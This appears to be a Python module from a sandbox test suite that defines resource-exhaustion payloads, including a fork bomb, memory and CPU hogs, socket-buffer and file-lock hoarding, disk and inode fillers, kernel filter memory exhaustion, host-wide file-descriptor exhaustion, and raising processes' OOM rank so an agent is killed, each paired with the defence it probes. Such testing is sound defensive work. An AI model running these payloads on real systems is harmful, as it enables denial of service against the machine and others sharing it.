"""Resources: more than one's share of processes, memory, cpu and disk, and of the agent's attention.

Each payload stops by itself a little beyond the limit it attacks.
"""

from __future__ import annotations

from atoll.attacks.record import Attack, Defence, Evidence, Family
from atoll.protocol.limits import Limits

MIB = 2**20
CPUS, MEMORY, DISK, PIDS = 0.25, 64 * MIB, 20 * MIB, 96
SLOW = Limits(cpus=CPUS, memory=MEMORY, disk=DISK, pids=PIDS)
SMALL = Limits(cpus=0.5, memory=MEMORY, disk=DISK, pids=PIDS)
ROOMY = Limits(memory=512 * MIB, disk=DISK, pids=PIDS)  # room for so many processes, on all cpus
CROWDED = Limits(memory=MEMORY, disk=DISK)  # and the other way round

FORK_BOMB = f"""
import os, time

def wait_and_go_on(gate):
    os.read(gate, 1)
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
            os.wait()
        except OSError:
            pass

gate, opener = os.pipe()
made = 1
try:
    while made < {PIDS + 32}:
        if os.fork() == 0:
            os.close(opener)
            wait_and_go_on(gate)
        made += 1
    print("BREACH", made, "processes", flush=True)
except OSError as cause:
    print("HELD", made, "processes:", cause, flush=True)
os.close(opener)
time.sleep(60)
"""

# The hog is a child, so that somebody is left to tell.
MEMORY_HOG = f"""
import os

def hog(report):
    kept = []
    while len(kept) < {MEMORY // MIB + 32}:
        kept.append(b"x" * 2**20)
    os.write(report, b"BREACH more than the limit")
    os._exit(0)

while True:
    reader, writer = os.pipe()
    if os.fork() == 0:
        hog(writer)
    os.close(writer)
    print(os.read(reader, 64).decode() or "HELD it was killed", flush=True)
    os.close(reader)
    os.wait()
"""

# What the kernel has taken and nobody has read, which costs the sender no memory of its own.
TCP_HOARD = f"""
import socket, time
listener = socket.create_server(("127.0.0.1", 0), backlog=100)
kept, held, block = [], 0, b"x" * 32768
while held < {2 * MEMORY} and len(kept) < 100:
    sender = socket.create_connection(listener.getsockname())
    kept.append((sender, listener.accept()))
    sender.setblocking(False)
    try:
        while held < {2 * MEMORY}:
            held += sender.send(block)
    except BlockingIOError:
        pass
print("BREACH" if held >= {2 * MEMORY} else "HELD", held, "bytes in TCP", flush=True)
time.sleep(60)
"""

# What does not fit is dropped and nobody told, so it counts what can be read.
UDP_HOARD = f"""
import socket, time

def held(receiver):
    receiver.setblocking(False)
    try:
        return len(receiver.recv(65536)) + held(receiver)
    except BlockingIOError:
        return 0

sender, receivers = socket.socket(type=socket.SOCK_DGRAM), []
for _ in range({2 * MEMORY // 120_000}):
    receivers.append(socket.socket(type=socket.SOCK_DGRAM))
    receivers[-1].bind(("127.0.0.1", 0))
    for _ in range(3):
        sender.sendto(b"x" * 60000, receivers[-1].getsockname())
total = sum(map(held, receivers))
print("BREACH" if total >= {MEMORY} else "HELD", total, "bytes in UDP", flush=True)
time.sleep(60)
"""

# What each of many sockets holds is counted for nobody, or goes beyond any limit. Each process has few descriptors.
HOLDING_SECONDS = 5  # many times what passes between two looks of the host
MANY_SOCKETS = """
import os, socket, struct, time
try:
    hoard()
except OSError as cause:
    print("HELD", cause, flush=True)
    raise SystemExit
print("READY to hoard", flush=True)
reader, writer = os.pipe()
for _ in range({processes}):
    if os.fork() == 0:
        kept = [hoard() for _ in range({each})]
        os.write(writer, b".")
        time.sleep(60)
for _ in range({processes}):
    os.read(reader, 1)
time.sleep({seconds})
print("BREACH", {processes} * {each}, "sockets and what they hold", flush=True)
time.sleep(60)
"""

TCP_CROWD = """
def hoard():
    listener = socket.create_server(("127.0.0.1", 0))
    pair = socket.create_connection(listener.getsockname()), listener.accept()[0]
    for end in pair:
        end.setblocking(False)
        try:
            while True:
                end.send(b"x" * 65536)
        except BlockingIOError:
            pass
    return pair
"""

PING_CROWD = """
def hoard():
    pinger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    for _ in range(4):
        pinger.sendto(struct.pack("BBHHH", 8, 0, 0, 0, 1) + b"x" * 60000, ("127.0.0.1", 0))
    return pinger
"""

# The kernel answers what interface 1 is, and nobody reads it.
NETLINK_CROWD = """
def hoard():
    asker = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    for _ in range(120):
        asker.send(struct.pack("IHHIIBBHiII", 32, 18, 1, 1, 0, 0, 0, 0, 1, 0, 0))
    return asker
"""

# MSG_MORE: the datagram goes on, so it waits.
UNSENT_CROWD = """
def hoard():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.connect(("127.0.0.1", 9))
    sender.send(b"x" * 65000, 0x8000)
    return sender
"""

# Locks of single bytes, 192 bytes each. A file takes longer for each that it has, so there are many files.
LOCKS_PER_FILE = 250
LOCK_CROWD = f"""
import fcntl
def hoard():
    file = open(f"/tmp/{{os.getpid()}}-{{os.urandom(8).hex()}}", "w")
    for byte in range(0, {2 * LOCKS_PER_FILE}, 2):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, byte)
    return file
"""

# Each is smaller than the agent, which the kernel would therefore kill first.
SMALL_HOGS = """
import os, time
try:
    for _ in range(100):
        if os.fork() == 0:
            kept = b"x" * (2 * 2**20)
            time.sleep(1)
            os._exit(0)
    while True:
        os.wait()
except OSError as cause:
    print("HELD", cause, flush=True)
"""

SMALL_HOGS_OF_EQUAL_RANK = f"""
with open("/proc/1/oom_score_adj") as agents, open("/proc/self/oom_score_adj", "w") as score:
    score.write(agents.read())
{SMALL_HOGS}
"""

CPU_HOG = f"""
import os, time

def spin():
    while True:
        pass

def used(pid):
    return time.clock_gettime(~pid << 3 | 2)  # the clock of a process's cpu time

def fork():
    pid = os.fork()
    return pid or spin()

began, workers = time.monotonic(), [fork() for _ in range(4)]
while time.monotonic() < began + 0.8:
    time.sleep(0.1)
cpus = sum(map(used, workers)) / (time.monotonic() - began)
print("BREACH" if cpus > {CPUS * 1.5} else "HELD", cpus, "cpus", flush=True)
time.sleep(60)
"""

DISK_FILLER = f"""
import os, time
block, written = os.urandom(2**20), 0
fd = os.open("/workspace/filler", os.O_WRONLY | os.O_CREAT)
try:
    while written < {DISK + 8 * MIB}:
        written += os.write(fd, block)
        os.fsync(fd)
    print("BREACH", written, "bytes", flush=True)
except OSError as cause:
    print("HELD", written, "bytes:", cause, flush=True)
while True:
    try:
        os.write(os.open("/workspace/another", os.O_WRONLY | os.O_CREAT | os.O_TRUNC), block)
        os.sync()
    except OSError:
        pass
"""

# A symbolic link is an inode without data, and a long one fills a disk sooner. For speed, most of it is full already.
INODE_FILLER = f"""
import os
with open("/workspace/filler", "wb") as file:
    file.write(os.urandom({DISK - 2 * MIB}))
os.mkdir("/workspace/many")
made = 0
try:
    while made < {4 * MIB // 4000}:
        os.symlink("x" * 4000, f"/workspace/many/{{made}}")
        made += 1
    print("BREACH", made, "inodes", flush=True)
except OSError as cause:
    print("HELD", made, "inodes:", cause.strerror, flush=True)
while True:
    try:
        os.mkdir("/workspace/many/more")
        os.rmdir("/workspace/many/more")
    except OSError:
        pass
"""

# Memory into which the kernel compiles filters: the machine has one pool of it. Each program jumps far and often, and
# becomes 140 KiB.
FILTERS = """
import os, socket, struct, time
jumps = [struct.pack("HBBI", 0x45, 255, 255, 0xFFFFFF)] * 3800
rest = [struct.pack("HBBI", 0x04, 0, 0, 1)] * 295 + [struct.pack("HBBI", 0x06, 0, 0, 0)]
program = b"".join(jumps + rest)

def address(content):
    import ctypes
    kept.append(ctypes.create_string_buffer(content, len(content)))
    return ctypes.addressof(kept[-1])

kept, sockets = [], []
try:
    for _ in range(32):
        sockets.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
        sockets[-1].setsockopt(1, 26, struct.pack("HxxxxxxQ", 4096, address(program)))
    print("BREACH", len(sockets), "filters", flush=True)
except OSError as cause:
    print("HELD", cause, flush=True)
while True:
    for own in sockets:
        try:
            own.setsockopt(1, 26, struct.pack("HxxxxxxQ", 4096, address(program)))
        except OSError:
            time.sleep(0.001)
"""

PTY_HOARD = """
import os, time
kept = []
try:
    while len(kept) < 128:
        kept.append(os.openpty())
    print("BREACH", len(kept), "ptys", flush=True)
except OSError as cause:
    print("HELD", len(kept), "ptys:", cause, flush=True)
time.sleep(60)
"""

# Open files are counted for the machine, and its root alone is never refused one. Each process opens few, as
# it has a limit too. Whoever found none left closes all at once.
FILES, FILES_OF_EACH, FILE_HOLDERS = 48_000, 800, 60
FILE_HOARD = f"""
import errno, os, time

def hold(report):
    try:
        for _ in range({FILES_OF_EACH}):
            os.open("/dev/null", os.O_RDONLY)
    except OSError as cause:
        os.write(report, b"!" if cause.errno == errno.ENFILE else b"?")
        os._exit(0)
    os.write(report, b".")
    time.sleep(60)

reader, writer = os.pipe()
holders = []
for _ in range({FILE_HOLDERS}):
    holders.append(os.fork())
    if holders[-1] == 0:
        hold(writer)
heard = b""
while len(heard) < {FILE_HOLDERS} and b"!" not in heard:
    heard += os.read(reader, 4096)
if b"!" in heard:
    for holder in holders:
        os.kill(holder, 9)
    print("BREACH the machine opens no file any more", flush=True)
elif heard.strip(b"."):
    print("it could not open", {FILES_OF_EACH}, flush=True)
else:
    print("HELD", {FILES}, "files, and room for more", flush=True)
time.sleep(60)
"""

FLOODED = 16 * MIB  # many times what waits in pipes and sockets while nobody reads
FLOOD = f"""
import os, time
count = os.open("/tmp/written", os.O_WRONLY | os.O_CREAT)
written = 0
while written < {FLOODED}:
    written += os.write(1, b"x" * 65536)
    os.pwrite(count, b"%d" % written, 0)
time.sleep(60)
"""
FLOOD_WITNESS = f"""
import time

def written():
    try:
        with open("/tmp/written") as file:
            return int(file.read() or 0)
    except FileNotFoundError:
        return 0

before, looks = 0, 0
while looks < 10 and before < {FLOODED}:
    time.sleep(0.02)
    now = written()
    looks = looks + 1 if now and now == before else 0
    before = now
print("BREACH" if before >= {FLOODED} else "HELD", before, "bytes", flush=True)
"""

HAMMER = """
import os, socket, time

def addresses():
    with open("/proc/net/unix") as file:
        lines = [line.split() for line in file.readlines()[1:]]
    names = [line[7].replace("@", "\\0", 1) for line in lines if len(line) > 7]
    return names + [f"/agents/{name}" for name in os.listdir("/agents")] if os.path.isdir("/agents") else names

def hammer(report):
    is_first = True
    while True:
        for address in addresses():
            try:
                socket.socket(socket.AF_UNIX).connect(address)
                os.write(report, b"+")
            except OSError:
                pass
        if is_first:
            os.write(report, b"-")
        is_first = False

reader, writer = os.pipe()
for _ in range(64):
    if os.fork() == 0:
        hammer(writer)
heard = b""
while b"+" not in heard and heard.count(b"-") < 64:
    heard += os.read(reader, 4096)
print("BREACH the agent took a connection" if b"+" in heard else "HELD there is nothing to connect to", flush=True)
while os.read(reader, 4096):
    pass
"""


def _attack(name: str, payload: str, defence: Defence, limits: Limits = SMALL) -> Attack:
    return Attack(name=name, family=Family.RESOURCES, defences=(defence,), payload=payload, limits=limits)


def _crowd(name: str, hoard: str, processes: int, each: int, *besides: Defence, limits: Limits = SMALL) -> Attack:
    """Of sockets or files, which hold 200 MB."""
    return Attack(
        name=name,
        family=Family.RESOURCES,
        defences=(Defence.HOARD_WATCH, *besides),
        payload=hoard + MANY_SOCKETS.format(processes=processes, each=each, seconds=HOLDING_SECONDS),
        evidence=Evidence.LIVES_ON,
        limits=limits,
    )


ATTACKS = (
    _attack("fork-bomb", FORK_BOMB, Defence.PIDS_LIMIT, ROOMY),
    _attack("memory-hog", MEMORY_HOG, Defence.MEMORY_LIMIT),
    _attack("memory-held-in-tcp", TCP_HOARD, Defence.SOCKET_LIMIT),
    _attack("memory-held-in-udp", UDP_HOARD, Defence.SOCKET_LIMIT),
    _crowd("memory-held-by-many-tcp-connections", TCP_CROWD, 4, 350),
    _crowd("memory-held-for-ping", PING_CROWD, 4, 250, Defence.NO_PING),
    _crowd("memory-held-in-netlink", NETLINK_CROWD, 4, 250),
    _crowd("memory-held-in-unsent-datagrams", UNSENT_CROWD, 8, 600),
    _crowd("memory-held-in-file-locks", LOCK_CROWD, 8, 550, limits=ROOMY),
    Attack(
        name="a-hundred-small-memory-hogs",
        family=Family.RESOURCES,
        defences=(Defence.OOM_ORDER, Defence.COMMANDS_GROUP),
        payload=SMALL_HOGS,
        evidence=Evidence.AGENT_LOST,
        limits=CROWDED,
    ),
    Attack(
        name="small-memory-hogs-that-rank-as-the-agent-does",
        family=Family.RESOURCES,
        defences=(Defence.COMMANDS_GROUP,),
        payload=SMALL_HOGS_OF_EQUAL_RANK,
        evidence=Evidence.AGENT_LOST,
        limits=CROWDED,
    ),
    _attack("cpu-hog", CPU_HOG, Defence.CPU_LIMIT, SLOW),
    _attack("memory-of-compiled-filters", FILTERS, Defence.FILTER),
    _attack("disk-filler", DISK_FILLER, Defence.DISK_QUOTA),
    _attack("pty-hoard", PTY_HOARD, Defence.PTY_LIMIT),
    _attack("open-file-hoard", FILE_HOARD, Defence.FILE_MAX),
    _attack("inode-filler", INODE_FILLER, Defence.DISK_QUOTA),
    Attack(
        name="output-flood-nobody-reads",
        family=Family.RESOURCES,
        defences=(Defence.BACK_PRESSURE,),
        payload=FLOOD,
        witness=FLOOD_WITNESS,
        limits=SMALL,
    ),
    _attack("hammer-what-the-agent-listens-on", HAMMER, Defence.AGENT_SOCKET_OUTSIDE, ROOMY),
)
